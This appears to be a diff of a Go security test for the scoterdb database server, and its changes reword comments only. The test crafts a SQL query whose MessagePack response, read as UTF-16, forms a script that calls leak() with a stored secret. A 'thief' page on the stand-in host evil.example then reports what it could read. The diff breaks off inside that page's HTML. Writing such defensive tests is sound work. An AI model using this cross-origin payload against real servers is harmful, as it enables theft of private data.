@@ -17,18 +17,19 @@ import (
 	"github.com/scoterdb/scoter/tests/toolchain"
 )
 
-// secret is in a row that a page of another site must not see.
+// secret is stored in a row that a page of another site must not read.
 const secret = "tops3cret"
 
-// scriptQuery returns a query whose answer in MessagePack, read as UTF-16, is a script that calls
-// leak with the secret: each character of that part is followed by a zero byte, and pad characters
-// and a column's name bring it to an even offset, behind what is read as a name.
+// scriptQuery returns a query with this property: its result in MessagePack, read as UTF-16, is a
+// script that calls leak with the secret. In that part each character is followed by a zero byte.
+// pad characters and the name of a column move it to an even offset, after bytes that are read as a
+// name.
 func scriptQuery(pad int) string {
 	wide := func(text string) string { return "regexp_replace(" + text + `, '(.)', '\1' || chr(0), 'gs')` }
 	return fmt.Sprintf("SELECT '%s' || %s || %s || %s AS %s", strings.Repeat("a", pad), wide("'=0;leak(`'"), wide("(SELECT max(v) FROM secrets)"), wide("'`)//'"), strings.Repeat("a", 1+pad%7))
 }
 
-// runsAsScript reports whether bytes, read as UTF-16, end in the call behind text that may be one
+// runsAsScript reports whether bytes, read as UTF-16, end with the call after text that may be one
 // name.
 func runsAsScript(body []byte) bool {
 	call := []byte{}
@@ -39,8 +40,8 @@ func runsAsScript(body []byte) bool {
 	return at > 0 && at%2 == 0
 }
 
-// browse opens a page of evil.example in Chromium and returns what its script posts to that site's
-// /said.
+// browse opens a page of evil.example in Chromium. It returns what the page's script posts to /said
+// of that site.
 func browse(t *testing.T, page string) string {
 	t.Helper()
 	said := make(chan string, 1)
@@ -61,7 +62,7 @@ func browse(t *testing.T, page string) string {
 	browser := toolchain.Chromium(t, "--host-resolver-rules=MAP evil.example 127.0.0.1", "http://evil.example:"+port+"/")
 	var log bytes.Buffer
 	browser.Stdout, browser.Stderr = &log, &log
-	browser.WaitDelay = time.Second // its helpers may hold the pipe
+	browser.WaitDelay = time.Second // child processes may keep the pipe open
 	if err := browser.Start(); err != nil {
 		t.Fatal(err)
 	}
@@ -81,8 +82,8 @@ func end(c *exec.Cmd) {
 	_ = c.Wait() // it was killed
 }
 
-// TestPagesOfOtherSitesReadNothing opens a page of another site in a real browser, which takes
-// answers of the server for scripts, pictures, styles and frames.
+// TestPagesOfOtherSitesReadNothing opens a page of another site in a real browser. The page loads
+// responses of the server as scripts, pictures, styles and frames.
 func TestPagesOfOtherSitesReadNothing(t *testing.T) {
 	s := binary.Serve(t, t.TempDir())
 	sql(t, s, "CREATE TABLE secrets AS SELECT '"+secret+"' AS v").must(t, 200)
@@ -100,7 +101,7 @@ func TestPagesOfOtherSitesReadNothing(t *testing.T) {
 	if script == "" {
 		t.Fatal("no answer is a script")
 	}
-	// The same bytes from a server that protects nothing show that the page would see them.
+	// If a server without protection sends the same bytes, the page can read them.
 	careless := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
 		w.Header().Set("Content-Type", "application/msgpack")
 		_, _ = w.Write(answered)
@@ -120,7 +121,7 @@ func TestPagesOfOtherSitesReadNothing(t *testing.T) {
 	}
 }
 
-// rowsReturned is how many rows statements gave so far.
+// rowsReturned returns how many rows statements have returned so far.
 func rowsReturned(t *testing.T, s *binary.Server) string {
 	t.Helper()
 	for line := range strings.Lines(send(t, s, "GET", "/metrics", "").must(t, 200).body) {
@@ -132,8 +133,8 @@ func rowsReturned(t *testing.T, s *binary.Server) string {
 	return ""
 }
 
-// thief is a page that reads one URL as a script in UTF-16 and others in the ways that it has, and
-// tells its own site what it saw.
+// thief is a page that reads one URL as a script in UTF-16, and others in all ways that a page has.
+// It reports to its own site what it could read.
 func thief(script, other string) string {
 	script, other = html.EscapeString(script), html.EscapeString(other)
 	return `<!doctype html><meta charset=utf-8><body><script>
